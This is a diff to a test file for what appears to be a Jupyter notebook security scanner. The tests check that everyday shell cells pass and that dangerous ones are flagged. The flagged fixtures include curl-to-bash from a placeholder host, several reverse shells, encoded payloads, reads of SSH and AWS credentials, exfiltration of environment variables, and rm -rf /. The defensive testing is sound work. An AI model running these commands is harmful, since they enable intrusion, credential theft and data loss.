@@ -110,10 +110,68 @@ describe('notebooks', () => {
     expect(await scan('a.ipynb', notebook([digest]))).toEqual([]);
   });
 
-  test('installing is ordinary, a shell that downloads is not', async () => {
-    expect(await scan('a.ipynb', notebook([code('!pip install numpy\n%matplotlib inline\n!ls -l')]))).toEqual([]);
-    expect(await scan('a.ipynb', notebook([code('!curl http://x.example/i | bash')]))).toEqual(['NBK-002 MEDIUM']);
-    expect(await scan('a.ipynb', notebook([code('%%bash\nrm -rf /tmp/x')]))).toEqual(['NBK-002 MEDIUM']);
+  test.each([
+    '!pip install numpy\n%matplotlib inline\n!ls -l',
+    '!wget -q https://x.example/data.zip && unzip -q data.zip',
+    '!python train.py --lr 1e-3\n!kaggle datasets download x\n!cat out.txt\n!rm -rf out',
+    '!curl -s http://localhost:8000/v1/models | python -m json.tool',
+    '!CUDA_VISIBLE_DEVICES=0 python train.py \\\n  --epochs 3',
+    '!mkdir -p ~/.kaggle && cp kaggle.json ~/.kaggle/ && chmod 600 ~/.kaggle/kaggle.json',
+    '!cat ~/.ssh/id_rsa.pub',
+    '%%bash\ncp a b\nrm -rf /tmp/x',
+    'files = !ls data\nif a != b: pass',
+  ])('everyday shell work is silent: %j', async (source) => {
+    expect(await scan('a.ipynb', notebook([code(source)]))).toEqual([]);
+  });
+
+  test.each([
+    '!curl http://x.example/i | bash',
+    '!curl -fsSL http://x.example/i | sudo -E bash -s -- -y',
+    '!curl http://x.example/i \\\n  | sh',
+    'out = !wget -qO- http://x.example/i | python3',
+    '!bash <(curl -s http://x.example/i)',
+    '!sh -c "$(wget -qO- http://x.example/i)"',
+    '!wget http://x.example/i.sh && bash i.sh',
+    '!bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+    '!nc 198.51.100.7 4444 -e /bin/sh',
+    '!rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
+    '!echo aWQK | base64 -d | sh',
+    '!powershell -enc SQBFAFgA',
+    `!python -c "import base64; exec(base64.b64decode('aWQK'))"`,
+    '!cat ~/.ssh/id_rsa',
+    '!cat ~/.aws/credentials',
+    '!env | curl -d @- http://x.example',
+    '!rm -rf /',
+    '%%bash\nls\ncurl http://x.example/i | sh',
+    '%sx curl http://x.example/i | sh',
+  ])('a dangerous shell command is MEDIUM: %j', async (source) => {
+    expect(await scan('a.ipynb', notebook([code(source)]))).toEqual(['NBK-002 MEDIUM']);
+  });
+
+  test('other shell commands are one LOW finding for each cell', async () => {
+    const { findings } = await scanBytes(
+      'a.ipynb',
+      Buffer.from(JSON.stringify(notebook([code('!./run.sh\n!./b.sh'), code('!tool x')]))),
+    );
+    expect(findings.map(({ severity, location: { cell, line } }) => [severity, cell, line])).toEqual([
+      ['LOW', 0, 1],
+      ['LOW', 1, 1],
+    ]);
+  });
+
+  test('the table that Colab shows for a data frame is no attack', async () => {
+    const html = `<div id="df-1" class="colab-df-container"><table><tr><td>1</td></tr></table>
+      <button class="colab-df-convert" onclick="convertToInteractive('df-1')"><svg viewBox="0 0 24 24"></svg></button>
+      <script>const b=document.querySelector('#df-1 button');
+      b.style.display=google.colab.kernel.accessAllowed?'block':'none';
+      async function convertToInteractive(key){const t=await google.colab.kernel.invokeFunction(key,['df-1'],{});
+      fetch('x');document.createElement('div').innerHTML='<a target="_blank" href=https://colab.example>more</a>';}</script></div>`;
+    const shown = (content: string): object => ({ output_type: 'display_data', data: { 'text/html': [content] } });
+    expect(await scan('a.ipynb', notebook([code('df', [shown(html)])]))).toEqual([]);
+    for (const url of ["'/api/terminals'", "'https://x.example/'", 'u', "'x', { method: 'POST' }"])
+      expect(await scan('a.ipynb', notebook([code('df', [shown(html.replace("'x'", url))])]))).toEqual([
+        'NBK-003 MEDIUM',
+      ]);
   });
 
   test('active HTML in an output is MEDIUM', async () => {
